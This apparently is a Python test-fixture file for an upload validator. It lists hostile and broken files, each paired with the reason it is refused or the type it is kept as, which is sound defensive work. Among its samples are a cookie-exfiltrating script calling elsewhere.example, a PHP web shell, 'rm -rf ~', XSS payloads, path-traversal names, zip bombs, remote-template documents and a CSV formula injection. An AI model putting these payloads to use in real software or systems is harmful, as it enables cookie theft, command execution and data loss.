"""Files that somebody would send who means no good, and files that are simply broken.

Each says what becomes of it: a piece of the sentence that refuses it, or the media type as which it is kept, and as
nothing else. A type that a browser runs is none of them.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.materials.files import (
    AVIF,
    DOCX,
    FLAC,
    FTYP,
    GIF,
    HEIC,
    JPEG,
    MP3,
    MP4,
    OGG,
    PDF,
    PNG,
    SRT,
    VTT,
    WAV,
    WEBM,
    WEBP,
    ZIP,
    box,
    chunk,
    gif,
    jpeg,
    mp3_frame,
    office,
    ogg,
    opened,
    png,
    riff,
    webm,
    zipped,
)
from training.base.structs import Frozen


class Hostile(Frozen, frozen=True, kw_only=True):
    """A file, its name, and what becomes of it: `why` is a piece of the refusal, or `kept` the type it is kept as."""

    name: str
    content: bytes
    why: str = ""
    kept: str = ""


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
EXE = (
    b"MZ\x90\x00\x03\0\0\0\x04\0\0\0\xff\xff\0\0"
    + b"\0" * 60
    + b"This program cannot be run in DOS mode.\r\n$"
    + b"\0" * 200
)
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 100
JS = b"document.location='https://elsewhere.example/'+document.cookie\n"
PHP = b"<?php system($_GET['c']); ?>\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PAGE, PROGRAM, BROKEN, UNKNOWN = "Web pages", "Programs and scripts", "broken", "do not know this kind"
MACRO, BOMB, ESCAPES, ELSEWHERE, INSIDE = (
    "macros",
    "enormous",
    "leads out",
    "from elsewhere",
    "holds a program or another",
)
PLAIN = "text/plain; charset=utf-8"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def of(name: str, content: bytes, why: str = "", kept: str = "") -> Hostile:
    return Hostile(name=name, content=content, why=why, kept=kept)


def named() -> Iterator[Hostile]:
    """Good text under names in every script, and names that are none."""
    for name in (
        "grüße.txt",
        "你好世界.txt",
        "نص عربي.txt",
        "שלום.txt",
        "привет.txt",
        "สวัสดี.txt",
        "नमस्ते.txt",
        "👩‍👩‍👧 family.txt",
        "e\u0301te\u0301.txt",
        "../../../../etc/passwd.txt",
        "..\\..\\windows\\win.ini.txt",
        "/etc/cron.d/x.txt",
        "C:\\autoexec.txt",
        "invoice\u202etxt.exe.txt",
        "\u2066a\u2069.txt",
        "CON.txt",
        "nul.txt",
        "com1.tar.txt",
        "x" * 296 + ".txt",
        "字" * 296 + ".txt",
        "a.txt. . .",
        " .txt",
        'quote".txt',
        "semi;colon\r.txt".replace("\r", ""),
        "<b>bold<b>.txt",
        "%00%0d%0a.txt",
        "a b\u00a0c\u2028d.txt",
    ):
        yield of(name, b"Good evening\n", kept=PLAIN)


def pages_and_programs() -> Iterator[Hostile]:
    """What runs, under its own name and under every other."""
    for ending in ("html", "HTM", "xhtml", "svg", "svgz", "xml", "mhtml"):
        yield of(f"a.{ending}", HTML, PAGE)
    for ending in ("exe", "js", "php", "jar", "bat", "ps1", "hta", "lnk", "scr", "py", "sh", "apk", "dmg", "iso"):
        yield of(f"a.{ending}", b"x", PROGRAM)
    for ending in ("txt", "csv", "md", "png", "jpg", "pdf", "mp4", "docx", "zip", ""):
        yield of(f"page.{ending}".rstrip("."), HTML, PAGE)
        yield of(f"program.{ending}".rstrip("."), EXE, PROGRAM)
    yield of("picture.png", SVG, PAGE)
    yield of("picture.svg.png", b"\xef\xbb\xbf \n<!-- x --><svg onload=alert(1)>", PAGE)
    yield of("deck.pdf", b"<ScRiPt>alert(1)</ScRiPt>", PAGE)
    yield of("notes.txt", PHP, PROGRAM)
    yield of("notes.md", b"#!/bin/sh\nrm -rf ~\n", PROGRAM)
    yield of("notes.txt", ELF, PROGRAM)
    yield of("notes.txt", b"@echo off\r\ndel *.*\r\n", PROGRAM)
    yield of("script.txt", JS, kept=PLAIN)
    yield of("page.html.txt", b"Hello <script>alert(1)</script>\n", kept=PLAIN)
    yield of("double.pdf.exe", PDF, PROGRAM)
    yield of("image.exe ", PNG, PROGRAM)
    yield of("letter.doc", OLE, "Older documents")
    yield of("letter.docx", OLE, "Older documents")
    yield of("letter.rtf", b"{\\rtf1 x}", "Older documents")
    yield of("letter.txt", b"{\\rtf1\\objdata 0105}", "Older documents")
    yield of("locked.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "locked with a password")


def polyglots() -> Iterator[Hostile]:
    """Two things at once: refused, or kept as the harmless one."""
    yield of("a.gif", gif(b"*/=1;alert(1)/*"), kept="image/gif")
    yield of("a.gif", b"GIF89a/*" + b"\0" * 8 + b"*/=1;alert(document.domain)//;", BROKEN)
    yield of("a.gif", gif(behind=b"<script>alert(1)</script>"), BROKEN)
    yield of("a.png", PNG + HTML, BROKEN)
    yield of("a.png", png(1, 1, chunk(b"tEXt", b"Comment\0" + HTML)), kept="image/png")
    yield of("a.jpg", JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + JPEG[2:], kept="image/jpeg")
    yield of("a.jpg", JPEG + ZIP, "archive hidden")
    yield of("a.pdf", PDF + ZIP, "archive hidden")
    yield of("a.pdf", b"%PDF-1.7\n" + HTML + PDF, kept="application/pdf")
    yield of("a.pdf", HTML + PDF, PAGE)
    yield of("behind.pdf", PDF + b"\n" + HTML * 20, "goes on behind its end")
    yield of("blank.pdf", PDF + b"\r\n\0 " * 100, kept="application/pdf")
    yield of("a.mp4", MP4 + HTML, BROKEN)
    yield of("a.mp4", MP4 + box(b"free", HTML), kept="video/mp4")
    yield of("a.mp4", MP4 + box(b"free", ZIP), "archive hidden")
    yield of("a.wav", WAV + EXE, BROKEN)
    yield of("a.webm", webm(behind=HTML), BROKEN)
    yield of("a.zip", EXE + ZIP, PROGRAM)
    yield of("a.zip", GIF + ZIP, BROKEN)
    yield of("a.docx", PDF, kept="application/pdf")
    yield of("a.mp3", PNG, kept="image/png")


def _raw(name: bytes, *, size: int, packed: int, offset: int, **more: int) -> bytes:
    """An entry of a list of files, believed by whoever reads no further."""
    told = {"flags": 0, "method": 8, "attributes": 0, "extra": 0, **more}
    head = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, told["flags"], told["method"], 0, 0, 0, packed, size,
                       len(name), told["extra"], 0, 0, 0, told["attributes"], offset)  # fmt: skip
    return head + name


def _listed(body: bytes, *entries: bytes, count: int | None = None) -> bytes:
    directory = b"".join(entries)
    number = len(entries) if count is None else count
    return body + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, number, number, len(directory), len(body), 0)


def _local(name: bytes, content: bytes) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(content), 0, len(name), 0) + name + content


def _flags(content: bytes, flag: int) -> bytes:
    """The same zip with a flag set on its first file, in both places."""
    changed = bytearray(content)
    changed[6] |= flag
    changed[content.index(b"PK\x01\x02") + 8] |= flag
    return bytes(changed)


def _with(name: str, *, mode: int = 0, twice: bool = False) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        info = zipfile.ZipInfo("placeholder")
        info.filename = name
        info.external_attr = mode << 16
        archive.writestr(info, "x")
        if twice:
            archive.writestr(name.upper(), "y")
    return held.getvalue()


def quine() -> bytes:
    """An archive with an archive in it, as those have that hold themselves."""
    return zipped({"r/r.zip": zipped({"r.zip": b"PK\x03\x04"})})


def archives() -> Iterator[Hostile]:
    """Archives against whoever unpacks them."""
    yield of("flat.zip", zipped({f"{n}.txt": b"\0" * 10_000_000 for n in range(8)}), BOMB)
    packed = zlib.compress(b"\0" * 1_000_000, 9)[2:-4]
    body, same = _local(b"a", packed), _local(b"000", packed)
    overlap = [_raw(f"{n:03}".encode(), size=1_000_000, packed=len(packed), offset=0) for n in range(70)]
    yield of("overlap.zip", _listed(same, *overlap), BOMB)
    yield of("lies.zip", _listed(body, _raw(b"a", size=100, packed=len(packed), offset=0)), BROKEN)
    yield of("huge.zip", _listed(body, _raw(b"a", size=4_000_000_000, packed=len(packed), offset=0)), BOMB)
    yield of("nested.zip", zipped({"a.zip": zipped({"b.zip": ZIP})}), "another archive")
    yield of("nested.zip", zipped({"a.dat": ZIP}), "another archive")
    yield of("tar.zip", zipped({"a.tar.gz": b"\x1f\x8b"}), "another archive")
    yield of("quine.zip", quine(), "another archive")
    yield of("many.zip", zipped({f"{n}": b"" for n in range(5001)}), "too many")
    yield of("count.zip", _listed(body, _raw(b"a", size=9, packed=9, offset=0), count=65535), BROKEN)
    wide = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, 1 << 60, 0)
    pointer = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(body), 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    yield of("zip64.zip", body + wide + pointer + end, BROKEN)
    yield of("zip64.zip", body + struct.pack("<4sLQL", b"PK\x06\x07", 0, 1 << 62, 1) + end, BROKEN)
    yield of("locked.zip", _flags(ZIP, 1), "password")
    for name in ("../../x", "/etc/passwd", "a/../../x", "C:/x", "..\\x", "a\\..\\..\\x", "a//b", "./x", ". /x"):
        yield of("escapes.zip", _with(name), ESCAPES)
    yield of("deep.zip", _with("/".join("abcdefghijklmnop")), "more than 12 deep")
    yield of("link.zip", _with("link", mode=0o120777), "link to elsewhere")
    yield of("device.zip", _with("disk", mode=0o060666), "link to elsewhere")
    yield of("twice.zip", _with("a.txt", twice=True), "same name")
    yield of("program.zip", zipped({"setup.exe": EXE}), "holds a program")
    yield of("script.zip", zipped({"a/run.js": JS}), "holds a program")
    yield of("macro.zip", zipped({"a.docm": DOCX}), "holds a program")
    yield of("empty.zip", zipped({}), "empty")
    yield of("folders.zip", zipped({"a/": b""}), "empty")
    yield of("cut.zip", ZIP[:-30], BROKEN)
    yield of("cut.zip", ZIP[: len(ZIP) // 2], BROKEN)
    damaged = bytearray(ZIP)
    damaged[40] ^= 0xFF
    yield of("damaged.zip", bytes(damaged), BROKEN)
    yield of("before.zip", b"PK\x03\x04junk" + ZIP, BROKEN)
    yield of("method.zip", _listed(body, _raw(b"a", size=9, packed=9, offset=0, method=99)), "unusual")
    yield of("old.rar", b"Rar!\x1a\x07\0", "taken as .zip")
    yield of("other.zip", b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "taken as .zip")


def documents() -> Iterator[Hostile]:
    """Documents that do something."""
    vba = {"word/vbaProject.bin": b"\xd0\xcf"}
    yield of("a.docx", office("docx", vba), MACRO)
    yield of("a.docm", office("docx", vba), MACRO)
    yield of("a.xlsx", office("xlsx", types='<Default ContentType="application/vnd.ms-office.vbaProject"/>'), MACRO)
    enabled = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    yield of("a.docx", office("docx", types=enabled), MACRO)
    template = (
        '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://elsewhere.example/t.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    yield of("a.docx", office("docx", {"word/_rels/settings.xml.rels": template}), ELSEWHERE)
    hidden = (
        template.replace("attachedTemplate", "attached&#84;emplate")
        .replace("<Rel", "<x:Rel")
        .replace("</Rel", "</x:Rel")
    )
    yield of("a.docx", office("docx", {"word/_rels/settings.xml.rels": hidden}), ELSEWHERE)
    yield of("a.docx", office("docx", {"word/_rels/settings.xml.rels": template.encode("utf-16")}), BROKEN)
    entities = '<!DOCTYPE r [<!ENTITY a "b">]>' + template
    yield of("a.docx", office("docx", {"word/_rels/settings.xml.rels": entities}), BROKEN)
    pointed = template.replace('Id="r1"', 'Id="r>1"').replace("<Rel", "<a-b:Rel").replace("</Rel", "</a-b:Rel")
    yield of("a.docx", office("docx", {"word/_rels/settings.xml.rels": pointed}), ELSEWHERE)
    yield of("a.docx", office("docx", {"word/_rels/a.rels": "<Relationship " * 70_000}), BROKEN)
    yield of("a.docx", office("docx", {"word/_rels/a.rels": f"<Relationship {'a' * 900_000} />"}), kept=DOCX_TYPE)
    for kind in ("oleObject", "frame", "subDocument"):
        fetched = template.replace("attachedTemplate", kind)
        yield of("a.docx", office("docx", {"word/_rels/document.xml.rels": fetched}), ELSEWHERE)
    script = template.replace("attachedTemplate", "hyperlink").replace(
        "https://elsewhere.example/t.dotm", "javascript:x"
    )
    yield of("a.docx", office("docx", {"word/_rels/document.xml.rels": script}), ELSEWHERE)
    link = template.replace("attachedTemplate", "hyperlink")
    office_type = "application/vnd.openxmlformats-officedocument"
    yield of(
        "a.docx",
        office("docx", {"word/_rels/document.xml.rels": link}),
        kept=f"{office_type}.wordprocessingml.document",
    )


def carriers() -> Iterator[Hostile]:
    """Documents with something inside, and tables and captions that are more than that."""
    yield of("a.pptx", office("pptx", {"ppt/embeddings/oleObject1.bin": OLE + EXE}), INSIDE)
    wrapped = OLE + "\x01Ole10Native".encode("utf-16-le")
    yield of("a.pptx", office("pptx", {"ppt/embeddings/oleObject1.bin": wrapped}), INSIDE)
    yield of("a.pptx", office("pptx", {"ppt/embeddings/setup.exe": EXE}), INSIDE)
    yield of("a.pptx", office("pptx", {"ppt/embeddings/book.xlsm": b"PK"}), INSIDE)
    yield of("a.xlsx", office("xlsx", {"xl/a.vbs": b"x"}), INSIDE)
    yield of("a.docx", office("docx", {"../../evil": b"x"}), ESCAPES)
    yield of("a.docx", zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "x"}), BROKEN)
    bomb = office("docx", {"word/media.xml": b"\0" * 70_000_000})
    yield of("a.docx", bomb, BOMB)
    yield of("a.odt", opened("text", {"Basic/Standard/Module1.xml": "x"}), MACRO)
    yield of("a.odt", opened("text", {"Scripts/python/x.txt": "x"}), MACRO)
    yield of("a.odt", opened("text-template"), MACRO)
    yield of("a.ods", opened("spreadsheet", {"META-INF/manifest.xml": "<manifest:encryption-data/>"}), "password")
    yield of("a.epub", opened("epub", {"OEBPS/run.exe": EXE}), INSIDE)
    yield of("a.csv", b"name,sum\n\"=cmd|'/c calc'!A0\",3\n", "start programs")
    yield of("a.csv", b'=HYPERLINK("https://elsewhere.example")\n', kept="text/csv; charset=utf-8")
    yield of("a.vtt", VTT + b"\n<script>alert(1)</script>\n", kept="text/vtt; charset=utf-8")
    yield of("a.srt", SRT.replace(b"Good", b"<img src=x onerror=alert(1)>"), kept="application/x-subrip")
    yield of("a.vtt", HTML, PAGE)
    yield of("a.vtt", b"Good evening\n", "WEBVTT")
    yield of("a.vtt", b"WEBVTT\n\nno times\n", "WEBVTT")
    yield of("a.srt", b"Good evening\n", ".srt")


def broken() -> Iterator[Hostile]:
    """Cut off, damaged, empty, too wide."""
    good = {"png": PNG, "gif": GIF, "jpg": JPEG, "webp": WEBP, "pdf": PDF, "mp4": MP4, "wav": WAV, "webm": WEBM}
    for ending, content in {**good, "ogg": OGG, "docx": DOCX, "zip": ZIP, "avif": AVIF}.items():
        yield of(f"cut.{ending}", content[:-5], BROKEN)
        yield of(f"half.{ending}", content[: len(content) // 2], BROKEN)
    yield of("cut.flac", FLAC[:-3], BROKEN)
    yield of("cut.mp3", MP3[:200], BROKEN)
    yield of("one.mp3", mp3_frame(), BROKEN)
    for ending in ("txt", "png", "zip", "mp4"):
        yield of(f"empty.{ending}", b"", "empty")
    yield of("wide.png", png(60_000, 60_000), "100 million")
    yield of("wide.jpg", jpeg(65_000, 65_000), "100 million")
    yield of("none.png", png(0, 0), BROKEN)
    yield of("no-moov.mp4", FTYP + box(b"mdat", b"x"), BROKEN)
    yield of("long.mp4", FTYP + struct.pack(">L4sQ", 1, b"moov", 1 << 62), BROKEN)
    yield of("small.mp4", FTYP + struct.pack(">L4s", 3, b"moov"), BROKEN)
    yield of("boxes.mp4", FTYP + box(b"free") * 20_001, BROKEN)
    yield of("photo.heic", HEIC, "JPEG or PNG")
    yield of("photo.jpg", HEIC, "JPEG or PNG")
    yield of("film.mkv", webm(b"matroska"), "MP4")
    yield of("film.webm", webm(b"matroska"), "MP4")
    yield of("film.mp4", riff(b"AVI ", b"LIST"), "MP4")
    yield of("film.ogg", ogg(b"\x80theora1234567890"), "MP4")
    yield of("photo.png", b"BM" + b"\0" * 60, "JPEG or PNG")
    yield of("latin.txt", "Grüße".encode("latin-1"), "UTF-8")
    yield of("wide.csv", "a,b".encode("utf-16"), "UTF-8")
    yield of("slow.csv", b"\n" * 4_000_000, kept="text/csv; charset=utf-8")
    yield of("slow.csv", b"\t" * 2_000_000 + b"=" * 2_000_000, kept="text/csv; charset=utf-8")
    yield of("slow.txt", b" " * 4_900_000, kept=PLAIN)
    yield of("slow.txt", b"<!--" * 1_000_000, kept=PLAIN)
    yield of("slow.md", b"<!-- -->" * 600_000, kept="text/markdown; charset=utf-8")
    yield of("slow.srt", b"1" * 4_900_000, ".srt")
    yield of("long.txt", b"a" * 5_000_001, "at most 5 MB")
    yield of("long.bin2", b"a" * 5_000_001, UNKNOWN)
    yield of("blocks.gif", GIF[:13] + b"\0" * 6 + b"!\xfe" + b"\x01a" * 600_000, BROKEN)
    yield of("fill.jpg", b"\xff\xd8" + b"\xff" * 600_000, BROKEN)
    yield of("chunks.png", PNG[:33] + chunk(b"tEXt", b"") * 600_000, BROKEN)
    yield of("pad.webm", webm()[:12] + b"\xec\x80" * 300 + webm()[12:], BROKEN)
    yield of("tags.mp3", b"ID3\x04\0\0\0\0\0\0" * 300 + mp3_frame() * 3, BROKEN)
    yield of("blocks.flac", FLAC[:4] + b"\0\0\0\x22" + b"\0" * 34 + b"\x01\0\0\0" * 300, BROKEN)
    yield of("bytes.txt", bytes(range(1, 32)), UNKNOWN)
    yield of("nul.txt", b"a\0b", BROKEN)
    yield of("random.bin2", bytes(range(256)) * 4, UNKNOWN)
    yield of("nothing", b"\x00\x01\x02\x03" * 10, UNKNOWN)
    yield of("no ending", b"Good evening", UNKNOWN)


HOSTILE = (*named(), *pages_and_programs(), *polyglots(), *archives(), *documents(), *carriers(), *broken())
